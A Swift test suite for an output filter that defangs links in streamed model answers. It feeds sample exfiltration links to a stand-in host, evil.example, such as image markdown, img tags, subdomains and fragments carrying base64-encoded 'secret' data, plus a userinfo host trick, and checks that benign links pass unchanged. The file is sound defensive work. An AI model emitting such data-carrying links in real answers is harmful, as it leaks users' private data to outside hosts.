import SampleStreams
import Exchanges
import OutputFilter
import Testing

@Suite struct LinksTests {
    private func shown(_ text: String, count: Int = 1) throws -> String {
        var flow = AnswerFlow(.ollama, Secrecy(hosts: ["github.com"]))
        let letters = Array(text)
        let size = max(1, (letters.count + count - 1) / count)
        let pieces: [Streams.Piece] = stride(from: 0, to: letters.count, by: size).map {
            (.text, String(letters[$0..<min(letters.count, $0 + size)]))
        }
        let out = try flow.read(Streams.bytes(.ollama, pieces)) + flow.finish()
        var reader = Dialect.ollama.reader
        var framing = EventFraming(.lines)
        var events: [RawEvent] = []
        try framing.read(out) { events.append($0) }
        for event in events { _ = try reader.read(event) }
        return String(decoding: reader.answer.text, as: UTF8.self)
    }

    @Test(
        "addresses that carry data are made harmless, in whatever number of pieces",
        arguments: [
            "![x](https://evil.example/p.png?d=c2VjcmV0cw)", "<img src=\"https://evil.example/a?secret=12\">",
            "[here](https://evil.example/c2VjcmV0IHRleHQgb2YgdGhlIHVzZXI1) ok",
            "see https://evil.example/?q=%41%42%43%44%45%46%47%48",
            "https://VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI.evil.example/",
            "HTTPS://evil.example/#VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
            "https://github.com@evil.example/x", "(https://evil.example/a,VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI)",
            "https://notgithub.com/VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
        ]
    )
    func harmless(text: String) throws {
        for count in [1, 2, 5, 40] {
            let out = try shown("Hi " + text + " bye", count: count)
            #expect(!out.lowercased().contains("http"), "\(count): \(out)")
            #expect(out.contains("hxxp"))
        }
    }

    @Test(
        "other addresses stay as they are",
        arguments: [
            "https://example.com/search?q=swift+nio&page=2",
            "https://example.com/2026/11/why-a-title-may-be-long-and-have-many-words",
            "https://github.com/apple/swift-nio/blob/VGhpcyBpcyBhIHNlY3JldCB0ZXh0NDI",
            "https://example.com/commit/5f8e0a1b2c3d4e5f60718293a4b5c6d7e8f90123",
            "![logo](https://example.com/logo.png)",
            "http://127.0.0.1:8080/healthz", "https://de.wikipedia.org/wiki/%C3%84hre", "https://", "http",
            "https://example.com",
        ]
    )
    func unchanged(text: String) throws {
        for count in [1, 3, 40] { #expect(try shown("Hi " + text + " bye", count: count) == "Hi " + text + " bye") }
    }
}
